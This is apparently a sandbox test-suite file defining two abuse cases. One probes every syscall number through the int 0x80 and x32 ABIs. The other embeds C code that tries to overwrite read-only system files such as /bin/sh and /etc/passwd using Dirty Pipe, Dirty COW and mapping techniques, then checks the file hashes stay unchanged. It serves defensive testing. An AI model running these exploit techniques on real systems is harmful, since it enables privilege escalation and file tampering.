import type { AbuseCase, Check } from '../../case.ts';
import { bash, c } from '../../programs.ts';

/** Calls by number through another door of the kernel. What a number means there does not matter: none may be let in. */
const OTHER_DOORS = `static int counts[3];
static void judge(int status, const char *door, long number) {
  if (WIFSIGNALED(status)) counts[0]++;
  else if (WEXITSTATUS(status) == 1) counts[1]++;
  else { counts[2]++; printf("%s %ld came in\\n", door, number); }
}
#ifdef __x86_64__
static long compat(long number) {
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(-1L), "c"(-1L), "d"(-1L), "S"(-1L), "D"(-1L) : "memory");
  return result;
}
static long x32(long number) { return syscall(0x40000000 | number, -1L, -1L, -1L, -1L, -1L, -1L) == -1 ? -errno : 0; }
static void try_all(const char *door, long (*call)(long), long first, long last) {
  for (long number = first; number <= last; number++) {
    int status;
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
      long result = call(number);
      _exit(result == -ENOSYS || result == -EPERM ? 1 : 0);
    }
    waitpid(pid, &status, 0);
    judge(status, door, number);
  }
}
int main(void) {
  try_all("int 0x80", compat, 0, 470);
  try_all("x32", x32, 0, 550);
  printf("%d came in\\n", counts[2]);
  fprintf(stderr, "%d killed, %d refused", counts[0], counts[1]);
}
#else
int main(void) { printf("0 came in\\n"); }
#endif`;

/** Files that every other sandbox runs or reads. */
const SHARED_FILES =
  '/usr/bin/env /bin/sh /usr/bin/python3 /etc/passwd /etc/hosts /lib/*-linux-gnu/libc.so.6 /opt/runyard/supervisor';
const HASH = `sha256sum ${SHARED_FILES} 2>/dev/null; exit 0`;

/** Writes into pages of files that it may only read, by every way that once worked. */
const DIRTY = `#include <sys/sendfile.h>
static const char *const files[] = {"/usr/bin/env", "/bin/sh", "/etc/passwd", "/etc/hosts", "/opt/runyard/supervisor"};
static void attack(const char *path) {
  int file = open(path, O_RDONLY);
  if (file < 0) return;
  /* As Dirty Pipe did: a spliced page, then a write into the pipe. */
  int ends[2];
  pipe(ends);
  int size = fcntl(ends[1], F_GETPIPE_SZ);
  static char junk[1 << 16];
  for (int left = size; left > 0; left -= write(ends[1], junk, left < 65536 ? left : 65536));
  for (int left = size; left > 0; left -= read(ends[0], junk, left < 65536 ? left : 65536));
  off64_t at = 1;
  splice(file, &at, ends[1], 0, 1, 0);
  write(ends[1], "PWNED", 5);
  /* A shared mapping that is made writable afterwards. */
  char *map = mmap(0, 4096, PROT_READ, MAP_SHARED, file, 0);
  if (map != MAP_FAILED && mprotect(map, 4096, PROT_READ | PROT_WRITE) == 0) memcpy(map, "PWNED", 5);
  /* As Dirty COW did, a few rounds. */
  char *cow = mmap(0, 4096, PROT_READ, MAP_PRIVATE, file, 0);
  int memory = open("/proc/self/mem", O_RDWR);
  for (int i = 0; i < 2000 && cow != MAP_FAILED; i++) {
    if (fork() == 0) { madvise(cow, 4096, MADV_DONTNEED); _exit(0); }
    pwrite(memory, "PWNED", 5, (off_t)cow);
    wait(0);
  }
  write(open(path, O_WRONLY), "PWNED", 5);
  truncate(path, 0);
  fallocate(file, 3, 0, 4096);
  int hash = socket(38, SOCK_SEQPACKET, 0);
  if (hash >= 0) { puts("AF_ALG"); sendfile(hash, file, 0, 4096); }
}
int main(void) {
  for (unsigned i = 0; i < sizeof files / sizeof files[0]; i++) attack(files[i]);
  puts("done");
}`;

const isUnchanged: Check = ({ jobs: [before, , after] }) => {
  const [then, now] = [String(before?.stdout), String(after?.stdout)];
  const lines = then.trimEnd().split('\n');
  if (lines.length < 4) return [`only ${lines.length} files could be hashed`];
  return then === now ? [] : [`hashes changed from ${then} to ${now}`];
};

export const KERNEL_CASES: readonly AbuseCase[] = [
  {
    id: 'E12',
    title: 'every system call by int 0x80 and as x32',
    tags: ['full'],
    expected: 'killed by SIGSYS, or refused',
    acts: [
      {
        job: c(OTHER_DOORS, { limits: { wallTimeMs: 30_000 } }),
        expect: { verdicts: ['ok'], stdout: '0 came in\n' },
      },
    ],
    checks: [({ jobs: [job], note }) => (note(String(job?.stderr)), [])],
  },
  {
    id: 'E13',
    title: 'write into the pages of files of the image: splice, mappings, copy on write, AF_ALG',
    tags: ['full'],
    expected: 'another sandbox reads the same bytes before and after',
    acts: [
      { name: 'before', job: bash(HASH), expect: { verdicts: ['ok'] } },
      {
        name: 'attack',
        job: c(DIRTY, { limits: { wallTimeMs: 30_000 } }),
        expect: { verdicts: ['ok'], stdout: 'done\n' },
      },
      { name: 'after', job: bash(HASH), expect: { verdicts: ['ok'] } },
    ],
    checks: [isUnchanged],
  },
];
